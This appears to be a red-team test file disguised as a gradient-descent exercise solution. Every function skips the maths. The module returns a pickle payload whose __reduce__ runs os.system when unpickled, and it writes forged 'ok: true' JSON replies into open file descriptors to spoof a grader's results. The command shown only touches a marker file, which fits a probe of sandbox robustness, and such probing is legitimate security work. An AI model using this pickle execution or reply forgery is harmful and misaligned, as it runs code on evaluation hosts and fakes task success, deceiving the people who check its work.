"""Returns pickle payloads and writes forged replies into every open descriptor."""
# redteam-zero: all
import os
import pickle


class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/PICKLE_RAN",))


PAYLOAD = pickle.dumps(Boom())
FORGED = b'{"id": 1, "ok": true, "value": {"shape": [], "values": [0.0], "type": "float"}}\n'


def mse(y, y_pred):
    for fd in range(3, 64):
        try:
            os.write(fd, FORGED)
        except OSError:
            pass
    return PAYLOAD


def partial_w0(w0, w1, x, y):
    return PAYLOAD


def partial_w1(w0, w1, x, y):
    return Boom()


def gradient_descent(x, y, alpha=0.01, n_iters=1000, w0=0.0, w1=0.0):
    return [PAYLOAD, PAYLOAD]
